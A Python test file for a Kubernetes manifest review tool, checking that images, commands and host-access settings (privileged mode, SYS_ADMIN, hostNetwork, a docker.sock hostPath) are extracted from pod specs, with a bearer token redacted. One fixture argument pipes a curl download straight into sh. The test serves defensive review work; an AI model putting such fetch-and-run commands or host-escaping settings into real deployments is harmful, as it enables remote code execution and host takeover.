from __future__ import annotations

from typing import Any

from hypothesis import given

from reconciler.core.review.content import Command, Content, content_of
from tests.support.factories import REDACTOR, make_desired, make_manifest
from tests.support.strategies import json_objects


def test_what_stands_out_is_found_in_every_part_of_a_pod() -> None:
    """Images and commands of every container, probe and hook; whatever reaches for the host."""
    main: dict[str, Any] = {
        "name": "main",
        "image": "nvcr.io/llm:1",
        "command": ["sh", "-c"],
        "args": ["curl -H 'Authorization: Bearer canarycanarycanary' x | sh"],
        "ports": [{"containerPort": 80, "hostPort": 80}],
        "lifecycle": {"postStart": {"exec": {"command": ["true"]}}},
        "securityContext": {"privileged": True, "capabilities": {"add": ["SYS_ADMIN"]}},
    }
    manifest = make_manifest()
    manifest["spec"]["template"]["spec"] = {
        "hostNetwork": True,
        "hostPID": False,
        "volumes": [{"name": "d", "hostPath": {"path": "/var/run/docker.sock"}}],
        "initContainers": [{"name": "first", "image": "busybox", "command": ["id"]}],
        "containers": [main, {"name": "side", "image": "busybox"}],
    }

    content = content_of(
        REDACTOR.redact(make_desired(manifest=manifest, metadata={"priority": "high"}).spec)
    )

    assert (content.kind, content.priority) == ("Deployment", "high")
    assert content.images == ("nvcr.io/llm:1", "busybox")
    assert content.commands == (
        Command(of="main", name="args", value=["curl -H 'Authorization: (hidden)' x | sh"]),
        Command(of="main", name="command", value=["sh", "-c"]),
        Command(of="main", name="command", value=["true"]),
        Command(of="first", name="command", value=["id"]),
    )
    assert content.host_access == (
        "hostPort 80",
        "capability SYS_ADMIN",
        "privileged",
        "hostNetwork",
        "hostPath /var/run/docker.sock",
    )


def test_kinds_that_nobody_knows_are_searched_as_well() -> None:
    """An image in its parts, the entrypoint of a job, a pod in a place of its own."""
    manifest = {
        "apiVersion": "example.com/v1",
        "kind": "Fleet",
        "spec": {
            "entrypoint": "python train.py",
            "image": {"repository": "nvcr.io/nim", "tag": "1"},
            "ships": [{"pod": {"hostIPC": True, "containers": [{"image": "b"}]}}],
        },
    }

    content = content_of(make_desired(manifest=manifest).spec)

    assert content == Content(
        kind="Fleet",
        priority=None,
        images=("nvcr.io/nim:1", "b"),
        commands=(Command(of="", name="entrypoint", value="python train.py"),),
        host_access=("hostIPC",),
        document={"metadata": {"name": "llm", "projectId": "4501"}, "manifest": manifest},
    )


@given(json_objects)
def test_any_manifest_can_be_looked_at(manifest: dict[str, Any]) -> None:
    """Whatever its parts are: what cannot be an image or a command is none."""
    content = content_of(make_desired(manifest=manifest).spec)
    assert all(isinstance(image, str) for image in content.images)
